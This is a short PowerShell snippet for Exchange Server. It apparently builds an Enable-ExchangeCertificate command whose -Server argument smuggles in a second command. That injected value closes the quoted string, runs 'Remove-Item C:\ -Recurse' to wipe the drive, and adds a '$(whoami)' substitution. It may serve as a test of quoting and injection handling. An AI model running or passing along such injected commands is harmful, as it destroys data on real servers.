. "$env:ExchangeInstallPath\bin\RemoteExchange.ps1" | Out-Null
Connect-ExchangeServer -auto -ClientApplication:ManagementShell | Out-Null
Enable-ExchangeCertificate -Server 'EX01''; Remove-Item C:\ -Recurse; ''’’$(whoami)`n
x' -Thumbprint '5A7B2C1D0E9F8A7B6C5D4E3F2A1B0C9D8E7F6A5B' -Services 'IIS,SMTP' -Force -DoNotRequireSsl
